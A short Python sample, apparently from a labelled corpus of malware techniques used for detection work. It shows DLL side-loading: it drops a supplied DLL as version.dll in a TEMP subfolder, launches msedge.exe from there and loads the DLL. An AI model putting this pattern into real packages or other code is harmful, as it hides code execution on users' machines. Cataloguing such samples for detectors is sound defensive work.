# technique: DLL side-loading: a malicious DLL written beside a signed binary and the binary started
# class: lowlevel
# source: GuardDog "dll-hijacking" rule docs; ESET write-ups of Windows PyPI malware
# declares: fs-write, subprocess
import ctypes
import os
import subprocess


def sideload(dll: bytes):
    d = os.path.join(os.environ["TEMP"], "msedge")
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, "version.dll"), "wb").write(dll)
    subprocess.Popen([os.path.join(d, "msedge.exe")])
    ctypes.windll.kernel32.LoadLibraryW(os.path.join(d, "version.dll"))
